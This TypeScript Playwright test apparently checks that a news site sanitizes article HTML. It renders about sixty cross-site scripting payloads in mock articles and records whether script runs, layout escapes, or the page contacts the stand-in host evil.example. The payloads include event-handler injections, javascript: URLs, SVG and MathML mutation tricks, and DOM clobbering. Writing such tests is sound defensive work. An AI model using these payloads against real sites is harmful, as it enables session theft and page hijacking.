import { writeFile } from 'node:fs/promises'
import path from 'node:path'
import { chromium } from 'playwright/test'
import { findBrowser, temporaryFolder } from '../../scripts/checkout/index.ts'
import { startSite } from '../support/site.ts'
import { type DrillResult, nothing } from './drill.ts'

/** Runs where an article's script does. */
const run = 'window.ATTACKED=1'

/** Bodies of news as attackers write them: the kinds of the public collections of cross-site scripting. */
const hostileArticles: string[] = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script/x>${run}</script/x>`,
  `<<script>${run}//<</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src="x\`\`<script>${run}</script>"\`\`onerror=${run}>`,
  `<img src=1 href=1 onerror="${run}"></img>`,
  `<body onload=${run}><body onpageshow=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}><svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ATTACKED=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></math>`,
  `<math href="javascript:${run}">a</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><img src=x onerror=${run}></template><xmp><p></xmp><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>--><p><!-- a --!><img src=x onerror=${run}>-->`,
  `<a href="javascript:${run}" id=bait>bait</a>`,
  `<a href=" &#1;java&#10;script&colon;${run}" id=bait>bait</a>`,
  `<a href="JaVaScRiPt:${run}" id=bait>bait</a>`,
  `<a href="java\tscript:${run}" id=bait>bait</a>`,
  `<a href="data:text/html,<script>opener.ATTACKED=1</script>" target=_blank id=bait>bait</a>`,
  `<a href="vbscript:msgbox(1)">a</a><a href="blob:https://evil.example/b">b</a>`,
  `<a href="https://evil.example/" target=_top ping="https://evil.example/ping" id=other>a</a>`,
  `<iframe src="javascript:parent.ATTACKED=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ATTACKED=1</script>"></iframe>`,
  `<iframe src="https://evil.example"></iframe><frameset><frame src="https://evil.example"></frameset>`,
  `<object data="data:text/html,<script>parent.ATTACKED=1</script>"></object>`,
  `<embed src="javascript:${run}"><applet code="x">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style>`,
  `<link rel=import href="https://evil.example/x.html"><link rel=prefetch href="https://evil.example/p">`,
  `<style>body{display:none!important}*{background:url(https://evil.example/x.png)}</style>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/x.png)">covers</p>`,
  `<div class="menu" id="root" style="display:none" data-page="x">clobbers</div>`,
  `<img name=body src=/a.png><img name=getElementById><form id=document><input name=cookie></form>`,
  `<form action="https://evil.example"><input name=password autofocus onfocus=${run}><button>Go</button></form>`,
  `<input type=image src=x onerror=${run} formaction="javascript:${run}">`,
  `<button form=x formaction="javascript:${run}" id=bait>bait</button><form id=x></form>`,
  `<details open ontoggle=${run}><summary>a</summary></details>`,
  `<dialog open onclose=${run}>covers</dialog><div popover id=p>b</div>`,
  `<video autoplay src=x onerror=${run}></video><audio src=x onerror=${run}>`,
  `<video><source onerror="${run}"></video><video poster="javascript:${run}">`,
  `<marquee onstart=${run}>a</marquee><bgsound src="javascript:${run}">`,
  `<select autofocus onfocus=${run}><option>a</select><textarea autofocus onfocus=${run}>`,
  `<isindex type=image src=1 onerror=${run}><keygen autofocus onfocus=${run}>`,
  `<table background="javascript:${run}"><td background="https://evil.example/x.png">a</td></table>`,
  `<div onmouseover=${run} onclick=${run} id=bait>bait</div>`,
  `<x onclick=${run} tabindex=1 onfocus=${run} autofocus id=bait>bait</x>`,
  `<img srcset="https://evil.example/x.png 2x" src="https://evil.example/x.png" referrerpolicy=unsafe-url>`,
  `<picture><source srcset="https://evil.example/x.png"><img src="//evil.example/y.png"></picture>`,
  `</div></article></main><h1>Left the article</h1><script>${run}</script><main>`,
  `<plaintext><script>${run}</script>`,
]

/** Opens each article in a browser, presses its bait, and looks at what comes of it. */
export async function articles(): Promise<DrillResult> {
  const { folder, remove } = await temporaryFolder('articles-')
  const data = path.join(folder, 'news.json')
  const item = { img: '', time: '2026-11-22', title: 'An article' }
  const news = hostileArticles.map((content, index) => ({ ...item, id: index + 1, content: `<p>first</p>${content}` }))
  await writeFile(data, JSON.stringify({ news }))
  const site = await startSite({ MOCK_API_DATA: data })
  const browser = await chromium.launch({
    executablePath: (await findBrowser()) ?? undefined,
    args: ['--no-sandbox', '--disable-gpu'],
  })
  const notes: Record<string, number> = {}
  let failed = 0
  try {
    const context = await browser.newContext()
    // Nobody is there to answer; who asks is seen below.
    await context.route(/evil\.example/, (route) => route.abort())
    for (const { id } of news) {
      const page = await context.newPage()
      const faults = new Set<string>()
      page.on('request', (request) => {
        if (new URL(request.url()).hostname === 'evil.example') faults.add('asked the attacker’s host')
      })
      page.on('dialog', (dialog) => void dialog.dismiss())
      await page.goto(`${site.origin}/news/${id}`)
      await page.waitForLoadState('networkidle')
      const bait = page.locator('main :text-is("bait")').first()
      if ((await bait.count()) > 0) await bait.click({ timeout: 2000 }).catch(() => undefined)
      const state = await page.evaluate(() => {
        const article = document.querySelector('main article')
        const inside = [...document.querySelectorAll('*')].filter((element) => article?.contains(element))
        return {
          attacked: 'ATTACKED' in window,
          whole: ['header', 'main', 'footer'].every((name) => document.querySelectorAll(`body ${name}`).length > 0),
          headings: document.querySelectorAll('h1').length,
          fixed: inside.some((element) => getComputedStyle(element).position === 'fixed'),
          first: article?.textContent.includes('first') ?? false,
        }
      })
      if (state.attacked) faults.add('a script ran')
      if (!state.whole || state.headings !== 1 || !state.first || state.fixed) faults.add('something left the article')
      if (!page.url().startsWith(site.origin)) faults.add('the visitor was led away')
      if (context.pages().some((other) => other !== page)) faults.add('another window opened')
      for (const fault of faults) notes[`${fault} (${id})`] = 1
      failed += Number(faults.size > 0)
      await Promise.all(context.pages().map((other) => other.close()))
    }
  } finally {
    await browser.close()
    await site.close()
    await remove()
  }
  return { ...nothing, requests: news.length, failed, ok: failed === 0, notes }
}
